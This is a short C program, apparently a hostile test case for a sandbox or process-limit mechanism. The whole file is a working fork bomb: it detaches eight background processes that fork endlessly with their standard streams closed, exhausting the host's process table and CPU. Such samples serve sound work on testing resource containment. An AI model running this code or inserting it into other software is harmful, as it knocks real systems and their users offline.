#include "hostile.h"
int main(void)
{
    for (int i = 0; i < 8; i++)
        if (fork() == 0) {
            setsid();
            if (fork() > 0)
                _exit(0);
            close(0), close(1), close(2);
            for (;;)
                if (fork() < 0)
                    sched_yield();
        }
    HELD();
    return 0;
}
